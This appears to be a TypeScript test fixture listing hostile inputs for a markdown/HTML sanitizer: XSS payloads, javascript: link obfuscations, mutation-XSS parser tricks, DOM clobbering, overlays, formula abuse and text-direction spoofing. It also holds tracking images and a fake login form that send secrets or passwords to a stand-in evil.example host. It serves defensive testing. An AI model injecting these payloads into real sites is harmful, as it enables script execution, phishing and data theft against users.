/**
 * Known attacks: scripts, executable links, tracking images, markup that covers or clobbers the
 * page, and parser tricks that bypassed sanitizers. For each of them, the page must contain only allowed markup.
 */
export const hostilePayloads: Record<string, string> = {
  'a script': '<script>window.pwned = 1</script>',
  'a script in a paragraph': 'Hello <script>window.pwned = 1</script> world',
  'a remote script': '<script src="https://evil.example/x.js"></script>',
  'a script over several blocks': '<script>\n\nwindow.pwned = 1\n\n</script>',
  'an image that fails': '<img src=x onerror="window.pwned = 1">',
  'an image that fails, without quotes': '<img/src=x/onerror=window.pwned=1>',
  'an svg that loads': '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  'an svg link': '<svg><a xlink:href="javascript:window.pwned=1"><text y="20">x</text></a></svg>',
  'a focus handler': '<b tabindex=1 autofocus onfocus="window.pwned = 1">x</b>',
  'a toggle handler': '<details open ontoggle="window.pwned = 1"><summary>x</summary>y</details>',
  'a pointer handler on a harmless tag':
    '<kbd onpointerenter="window.pwned = 1" style="position:fixed;inset:0">x</kbd>',
  'a frame': '<iframe src="javascript:parent.pwned=1"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  'an object and an embed':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
  'a base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a stylesheet':
    '<link rel="stylesheet" href="https://evil.example/x.css">\n\n<style>@import "https://evil.example/y.css"; * { display: none }</style>',
  'a form':
    '<form action="https://evil.example/" id="login"><input name="password" type="password"><button>Sign in</button></form>',
  'form controls without a form':
    '<input autofocus onfocus=window.pwned=1> <textarea>x</textarea> <select><option>y</select> <button formaction="javascript:window.pwned=1">z</button>',
  'an overlay by style':
    '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
  'an overlay by class':
    '<div class="fixed inset-0 z-50 bg-bg">Session expired</div> <kbd class="fixed inset-0">x</kbd>',
  'a background that loads': '<b style="background:url(https://evil.example/?secret)">x</b>',
  'clobbering by id and name':
    '<a id="app"></a><a id="config" name="url" href="https://evil.example">x</a><form name="document"></form><img name="body">',
  'clobbering in a heading': '# <a name="getElementById">x</a> {#location}',
  'a javascript link': '[x](javascript:window.pwned=1)',
  'a javascript link in capitals': '[x](JaVaScRiPt:window.pwned=1)',
  'a javascript link with entities':
    '[x](javascript&colon;window.pwned=1) [y](&#106;avascript:window.pwned=1) [z](java&Tab;script:window.pwned=1) [w](java&NewLine;script:window.pwned=1)',
  'a javascript link with spaces':
    '[x](<  javascript:window.pwned=1>) [y](<java\tscript:window.pwned=1>) [z](\u0001javascript:window.pwned=1)',
  'a javascript link in percent signs': '[x](javascript%3Awindow.pwned=1) [y](%6aavascript:window.pwned=1)',
  'a javascript link by reference': '[x]\n\n[x]: javascript:window.pwned=1',
  'a javascript autolink': '<javascript:window.pwned=1> <data:text/html,x>',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)',
  'a vbscript, a file and a blob link':
    '[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://parley.example/1)',
  'a link without a scheme':
    '[x](//evil.example/a) [y](/api/auth/sign-out) [z](#app) [w](?a=b) [v](evil.example)',
  'a link with a fake user name': '[x](https://bank.example@evil.example/)',
  'a title that ends its attribute':
    '[x](https://e.example "\\" onmouseover=\\"window.pwned=1") [y](https://e.example \'"><script>window.pwned=1</script>\')',
  'an address that ends its attribute':
    '[x](https://e.example/"onmouseover="window.pwned=1) [y](https://e.example/\'><img src=x onerror=window.pwned=1>)',
  'a raw link': '<a href="javascript:window.pwned=1" target="_top" ping="https://evil.example/">x</a>',
  'a tracking image': '![x](https://evil.example/p.png?d=secret) ![](http://evil.example/p.gif)',
  'a tracking image by reference': '![x][b]\n\n[b]: https://evil.example/p.png?d=secret',
  'a raw tracking image':
    '<img src="https://evil.example/p.png?d=secret"> <picture><source srcset="https://evil.example/q.png"></picture> <video poster="https://evil.example/r.png"></video>',
  'an image of this instance':
    '![x](/api/files/1) ![y](//evil.example/p.png) ![z](javascript:window.pwned=1)',
  'an inline svg':
    '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LnB3bmVkPTEiLz4=)',
  'an image alternative with tags': '![<img src=x onerror=window.pwned=1>](https://e.example/x.png)',
  'an image in a link': '[![x](https://evil.example/p.png?d=secret)](https://e.example)',
  'mXSS by noscript': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  'mXSS by math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  'mXSS by svg and style': '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  'mXSS by form nesting':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwned=1 src>">',
  'mXSS by template':
    '<template><s><template><s><img src=x onerror=window.pwned=1></s></template></s></template>',
  'mXSS by select': '<select><iframe></select><img src=x onerror=window.pwned=1>',
  'mXSS by title and xmp':
    '<xmp><p title="</xmp><svg/onload=window.pwned=1>"> <title><p title="</title><svg/onload=window.pwned=1>">',
  'a comment that ends early':
    '<!--> <img src=x onerror=window.pwned=1> --> <!-- --!> <svg onload=window.pwned=1> -->',
  'cdata and processing instructions':
    '<![CDATA[<img src=x onerror=window.pwned=1>]]> <?xml-stylesheet href="https://evil.example/x.css"?> <!ENTITY x "y">',
  'an unfinished tag': '<img src=x onerror=window.pwned=1 //',
  'an unfinished attribute': '<b title="',
  'a null character in a tag':
    '<scr\u0000ipt>window.pwned=1</scr\u0000ipt> <im\u0000g src=x onerror=window.pwned=1>',
  'a custom element':
    '<x-widget is="x" part="y" slot="z">x</x-widget> <slot name="s">y</slot> <dialog open>z</dialog>',
  'a popover': '<b popover id="p">x</b> <button popovertarget="p">y</button> <b contenteditable>z</b>',
  'tags inside code':
    '`<img src=x onerror=window.pwned=1>` and\n\n```html\n<script>window.pwned = 1</script>\n```\n',
  'a language that ends its attribute':
    '```"><img/src=x/onerror=window.pwned=1>\nx\n```\n\n```js" onclick="window.pwned=1\ny\n```',
  'a language of the prototype': '```__proto__\nx\n```\n\n```constructor\ny\n```\n\n```toString\nz\n```',
  'a diagram':
    '```mermaid\ngraph TD; A["<img src=x onerror=window.pwned=1>"] --> B; click A "javascript:window.pwned=1"\n```',
  'a formula with a link': '$\\href{javascript:window.pwned=1}{x}$ $\\url{javascript:window.pwned=1}$',
  'a formula with attributes':
    '$\\htmlData{pwned=1}{x} \\htmlId{app}{y} \\htmlClass{fixed inset-0}{z} \\htmlStyle{position:fixed}{w}$',
  'a formula with an image': '$\\includegraphics[height=5em]{https://evil.example/p.png?d=secret}$',
  'a formula with tags':
    '$$<img src=x onerror=window.pwned=1>$$ $\\text{<script>window.pwned=1</script>}$ \\(\\unknown{<b>}\\)',
  'a formula that expands without end':
    '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$',
  'a formula that covers the page': '$\\rule{9999em}{9999em} \\kern-999em \\raisebox{-999em}{x}$',
  'a table with tags':
    '| <script>window.pwned=1</script> | [x](javascript:window.pwned=1) |\n|---|---|\n| <img src=x onerror=window.pwned=1> | ![p](https://evil.example/p.png?d=secret) |',
  'a details element with tags':
    '<details onclick=window.pwned=1 style="position:fixed"><summary id="app"><img src=x onerror=window.pwned=1></summary>\n\n<script>window.pwned=1</script>\n\n</details>',
  'a footnote and an attribute list':
    '[^1]\n\n[^1]: <script>window.pwned=1</script>\n\n# Title {#app .fixed onclick=window.pwned=1}',
  'characters that reverse the text direction': 'user\u202Etxt.exe [x](https://e.example/\u202Efdp.exe)',
  'a definition of the prototype':
    '[__proto__] [constructor]\n\n[__proto__]: javascript:window.pwned=1\n[constructor]: https://e.example',
};
